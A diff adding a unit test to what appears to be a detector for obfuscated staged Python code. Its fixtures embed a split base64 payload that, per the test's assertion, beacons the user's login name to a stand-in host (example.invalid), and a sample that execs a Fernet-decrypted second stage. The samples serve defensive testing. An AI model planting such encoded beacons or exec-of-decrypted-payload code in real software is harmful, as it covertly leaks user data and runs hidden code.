@@ -129,6 +129,22 @@ class PyEvaluatorTest {
     }
 
     @Test
+    void base64CodeAssembledButNeverDecodedIsAStageThatDoesNotRun() {
+        // The loader that would decode and run it is missing (cut off, or in another file).
+        String code = "part_a = 'aW1wb3J0IG9zCmltcG9ydCB1cmxsaWIucmVxdWVzdAoKZGVmIGJlYWNvbigpOgogICAgcmV0dXJuIHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3A/dT0nIC'\n"
+                + "part_b = 'sgb3MuZ2V0bG9naW4oKSkucmVhZCgpCgpiZWFjb24oKQojIHBhZGRpbmcgc28gdGhlIGJsb2IgaXMgbG9uZyBlbm91Z2ggdG8gYmUgd29ydGggYSBsb29rLCBhcyBwYWNrZWQgc3RhZ2VzIGFyZQo='\n"
+                + "blob = part_a + part_b\n";
+        PyModel model = evaluate(code);
+        assertThat(model.stages()).singleElement().satisfies(stage -> {
+            assertThat(stage.text()).contains("urlopen('https://example.invalid/p?u='");
+            assertThat(stage.chain()).containsExactly("base64", "python");
+            assertThat(stage.via()).isEqualTo("base64 text never decoded");
+            assertThat(stage.scope()).isEqualTo(PyEvaluator.NEVER_RUN);
+        });
+        assertThat(evaluate("blob = '" + "QUJD".repeat(100) + "'\n").stages()).as("base64 of text, not code").isEmpty();
+    }
+
+    @Test
     void fernetWrappedSecondStage() {
         String code = "from fernet import Fernet\n"
                 + "exec(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=').decrypt(b'gAAAAABrCWaWtSpr9_UDJKKjFW-r0jpnLvfe7QaNiigBP5LcPWeDwD3D6fukKdAhunDhHAAc6aYT_wOHWwJQwtMpj9T7aLLw3VwlSQQ5kffDLwEIrYRBpHHgKZEbCGusm12PGaIDHGItQiE38h-ZnygBdaRqmAV4DFXg18TVsOBOgzilVC4BbFqKa9nPO8hdNSEpKxBDEqzs'))\n";
